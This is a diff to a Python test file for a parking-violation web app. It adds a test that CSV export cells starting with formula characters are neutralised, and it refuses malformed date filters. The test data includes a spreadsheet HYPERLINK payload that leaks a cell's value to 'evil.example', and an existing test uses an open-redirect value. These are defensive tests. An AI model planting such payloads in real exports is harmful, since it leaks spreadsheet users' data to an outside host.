@@ -97,7 +97,7 @@ def test_list_filters_and_pagination(client):
     assert ids("?bay=A2") == ["6", "4", "2"]
     assert ids("?plate=粤B1") == ["7", "6", "1"]
     assert ids("?from=2026-03-03&to=2026-03-04") == ["5", "4", "3"]  # site days, 'to' inclusive
-    assert ids("?from=bad-date") == ids("")
+    assert client.get("/violations?from=bad-date").status_code == 400  # named, not silently ignored
     page2 = client.get("/violations?decision=open&page=1").text
     assert 'href="?decision=open&amp;page=2"' in page2  # pager keeps the filter
 
@@ -199,6 +199,29 @@ def test_open_redirect_is_refused(site):
     r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf": token(c),
                                "next": "//evil.example/x"}, follow_redirects=False)
     assert r.headers["location"] == "/violations"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, site):
+    """OWASP CSV injection: a cell starting with = + - @ TAB or CR gets a leading quote, in every field."""
+    tok = token(client, "/violations")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    client.post("/violations/6/decide", data={"decision": "dismissed", "reason": evil, "csrf": tok})
+    for vid, reason in ((4, "+1 staff"), (2, "@SUM(1+1)")):
+        client.post(f"/violations/{vid}/decide", data={"decision": "dismissed", "reason": reason, "csrf": tok})
+    # fields the page does not write: the violation log stores what the bus said
+    site.log._db.execute("UPDATE violations SET plate='-2+3', colour='\tblue', nev_reason='\rx', "
+                         "evidence_id='=1+1', bay_id='@A9' WHERE id=1")
+    site.log._db.commit()
+    rows = list(csv.reader(io.StringIO(client.get("/violations.csv").content.decode("utf-8-sig"))))
+    body = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
+    assert body["6"]["decision_reason"] == "'" + evil
+    assert body["4"]["decision_reason"] == "'+1 staff" and body["2"]["decision_reason"] == "'@SUM(1+1)"
+    one = body["1"]
+    assert (one["plate"], one["colour"], one["nev_reason"], one["evidence_id"], one["bay_id"]) == \
+        ("'-2+3", "'\tblue", "'\rx", "'=1+1", "'@A9")
+    assert body["7"]["plate"] == "粤B11111" and body["3"]["nev"] == ""  # ordinary cells untouched
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
 
 
 def test_three_installer_saves_in_one_second_keep_every_version_and_the_commented_original(client, site):
